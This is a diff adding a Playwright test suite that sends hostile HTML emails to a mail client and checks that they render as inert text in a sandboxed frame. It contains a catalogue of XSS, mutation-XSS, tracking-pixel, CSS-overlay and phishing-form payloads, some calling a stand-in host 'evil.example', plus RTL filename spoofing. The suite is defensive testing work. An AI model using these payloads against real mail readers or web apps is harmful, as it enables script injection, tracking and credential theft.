@@ -1,0 +1,162 @@
+"""Mail that wants to harm: shown as words, running nothing, asking nobody."""
+
+import re
+import smtplib
+from email.message import EmailMessage
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.support.page import PASSWORD, OpenWindow, Window
+from tests.support.running import RunningPosthouse
+
+EMILY = "emily.chen@jinghe.example"
+EVIL = "https://evil.example"
+
+# name → HTML; each holds the word "Harmless", which must be readable in the end.
+HOSTILE = {
+    "script": f"<p>Harmless</p><script>alert(1);fetch('{EVIL}/s')</script>"
+    f"<script src='{EVIL}/s.js'></script>",
+    "handlers": "<p onmouseover=alert(1) onclick='alert(2)'>Harmless</p>"
+    "<img src=x onerror=alert(3)><svg onload=alert(4)><animate onbegin=alert(5) attributeName=x>"
+    "</svg><details open ontoggle=alert(6)>x</details><input autofocus onfocus=alert(7)>"
+    "<video><source onerror=alert(8)></video><body onload=alert(9)>",
+    "links": "<p>Harmless</p><a href='javascript:alert(1)'>one</a>"
+    "<a href='&#x6a;ava&#x0a;script:alert(2)'>two</a><a href=' vbscript:x'>three</a>"
+    "<a href='data:text/html,<script>alert(3)</script>'>four</a>"
+    "<a href='https://shop.example/offer'>good</a>",
+    "remote": f"<p>Harmless</p><img src='{EVIL}/pixel.gif'><img srcset='{EVIL}/a.png 2x'>"
+    f"<picture><source srcset='{EVIL}/b.png'><img></picture><table background='{EVIL}/c.png'>"
+    f"<tr><td>x</td></tr></table><video poster='{EVIL}/d.png'></video>"
+    f"<audio src='{EVIL}/e.mp3' autoplay></audio><image href='{EVIL}/f.png'></image>"
+    f"<svg><image href='{EVIL}/g.png'/><use href='{EVIL}/h.svg#x'/></svg>"
+    f"<input type=image src='{EVIL}/i.png'>",
+    "styles": f"<style>@import '{EVIL}/a.css'; body{{background:url({EVIL}/b.png)}}"
+    f"@font-face{{font-family:x;src:url({EVIL}/c.woff)}} p{{font-family:x}}"
+    "#root,body *{position:fixed!important;inset:0;z-index:99999}</style>"
+    f"<p style=\"background:u\\rl('{EVIL}/d.png')\">Harmless</p>"
+    f"<div style='position:fixed;inset:0;z-index:9999;background:red'>over all</div>"
+    f"<div style='width:expression(alert(1));behavior:url({EVIL}/e.htc)'>x</div>"
+    f"<link rel=stylesheet href='{EVIL}/f.css'><link rel=prefetch href='{EVIL}/g'>"
+    f"<link rel=dns-prefetch href='{EVIL}'>",
+    "frames": f"<p>Harmless</p><iframe src='{EVIL}/f'></iframe><iframe srcdoc='<script>"
+    f"parent.alert(1)</script>'></iframe><object data='{EVIL}/o'></object><embed src='{EVIL}/e'>"
+    f"<frameset><frame src='{EVIL}/g'></frameset><portal src='{EVIL}/p'></portal>",
+    "whole page": f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}/m'>"
+    "<p>Harmless</p><img src='relative.png'><a href='/settings'>relative</a>"
+    f"<form action='{EVIL}/login' method=post><input name=password><button>Sign in</button></form>",
+    "confusion": "<p>Harmless</p><svg><style><img src=x onerror=alert(1)></style></svg>"
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
+    " onerror=alert(2)&gt;'></table></mtext></math><noscript><p title='</noscript><img src=x"
+    " onerror=alert(3)>'></noscript><template><script>alert(4)</script></template>"
+    "<!--><img src=x onerror=alert(5)>--><![CDATA[<script>alert(6)</script>]]>"
+    "<textarea></textarea><img src=x onerror=alert(7)></textarea>"
+    "<xmp><img src=x onerror=alert(8)></xmp><plaintext>",
+}
+WORDS = re.compile("Harmless")
+
+
+@pytest.fixture(scope="module")
+def delivered(demo: RunningPosthouse) -> None:
+    """All of it came in through the SMTP port."""
+    with demo.smtp() as client:
+        for name, html in HOSTILE.items():
+            _send(client, f"Hostile: {name}", html)
+
+
+@pytest.fixture
+def emily(open_window: OpenWindow, delivered: None) -> Window:
+    """Emily opens everything. Her window fails the test by itself on a dialog, an error of a
+    script, a breach of the policy, and on every request to somebody else."""
+    opened = open_window(locale="en-GB")
+    opened.sign_in(EMILY, PASSWORD)
+    return opened
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_mail_is_words_only(emily: Window, name: str):
+    emily.row(f"Hostile: {name}").click()
+    frame = emily.reader.locator("iframe").first
+    inside = frame.content_frame
+    expect(inside.get_by_text(WORDS).first).to_be_visible()
+    sandbox = (frame.get_attribute("sandbox") or "").split()
+    assert "allow-scripts" not in sandbox
+    assert "allow-forms" not in sandbox
+    assert "allow-top-navigation" not in sandbox
+    dangerous = inside.locator("body").locator(
+        "script, iframe, object, embed, form, link, base, meta[http-equiv=refresh], svg, math"
+    )
+    expect(dangerous).to_have_count(0)
+    handlers = inside.locator("body").evaluate(
+        """body => [...body.querySelectorAll('*')].flatMap((element) =>
+             [...element.attributes].filter(({ name, value }) =>
+               name.startsWith('on') || /^\\s*(javascript|vbscript|data:text)/i.test(value))
+             .map(({ name }) => name))"""
+    )
+    assert handlers == []
+    assert inside.locator("base").evaluate_all("all => all.map((base) => base.outerHTML)") == [
+        '<base target="_blank">'
+    ]
+    for link in inside.get_by_role("link").all():
+        assert re.match("https?:|mailto:", link.get_attribute("href") or ""), link
+        assert "noopener" in (link.get_attribute("rel") or "")
+    assert emily.page.url.startswith(emily.origin)
+    # Nothing of the mail lies over the page: its own buttons still take the press.
+    emily.page.get_by_role("button", name="Reply to Mallory").click()
+    expect(emily.page.get_by_role("textbox", name="Text of the mail")).to_be_focused()
+    emily.page.keyboard.press("Escape")
+    emily.picture(f"hostile-{name.replace(' ', '-')}.en")
+
+
+def test_remote_pictures_come_by_a_press_and_through_our_server(emily: Window):
+    emily.row("Hostile: remote").click()
+    notice = emily.reader.get_by_text(re.compile("remote images? (is|are) not loaded"))
+    expect(notice).to_be_visible()
+    assert emily.outside == []
+    emily.reader.get_by_role("button", name="Show images").click()
+    expect(notice).to_have_count(0)
+    picture = emily.reader.locator("iframe").content_frame.locator("img[src]").first
+    expect(picture).to_have_attribute("src", re.compile(r"^/api/v1/"))
+
+
+def test_a_link_opens_elsewhere_and_tells_nothing(emily: Window):
+    emily.row("Hostile: links").click()
+    link = emily.reader.locator("iframe").content_frame.get_by_role("link", name="good")
+    expect(link).to_have_attribute("rel", re.compile("noreferrer"))
+    expect(emily.reader.locator("iframe").content_frame.get_by_role("link")).to_have_count(1)
+
+
+def test_hostile_words_outside_the_body_are_words(demo: RunningPosthouse, emily: Window):
+    subject = "<img src=x onerror=alert(1)> \u202egnp.exe"
+    with demo.smtp() as client:
+        letter = _letter(subject, "<p>Harmless</p>")
+        del letter["From"]
+        letter["From"] = '"<script>alert(2)</script>" <mallory@evil.example>'
+        letter.add_attachment(
+            b"<script>alert(3)</script>", maintype="text", subtype="html", filename="<b>x</b>.html"
+        )
+        client.send_message(letter, "mallory@evil.example", [EMILY])
+    row = emily.row("<img src=x onerror=alert(1)>")
+    expect(row).to_have_count(1)
+    row.click()
+    expect(emily.reader.get_by_role("heading", level=2)).to_contain_text("<img src=x onerror")
+    file = emily.reader.get_by_role("link", name="Download <b>x</b>.html")
+    expect(file).to_be_visible()
+    emily.picture("hostile-words.en")
+    answer = emily.context.request.get(emily.origin + (file.get_attribute("href") or ""))
+    assert answer.headers["content-disposition"].startswith("attachment")
+    assert "sandbox" in answer.headers["content-security-policy"]
+
+
+def _letter(subject: str, html: str) -> EmailMessage:
+    letter = EmailMessage()
+    letter["From"] = "Mallory <mallory@evil.example>"
+    letter["To"] = EMILY
+    letter["Subject"] = subject
+    letter["Message-ID"] = f"<{abs(hash(subject))}@evil.example>"
+    letter.set_content(html, subtype="html")
+    return letter
+
+
+def _send(client: smtplib.SMTP, subject: str, html: str) -> None:
+    client.send_message(_letter(subject, html))
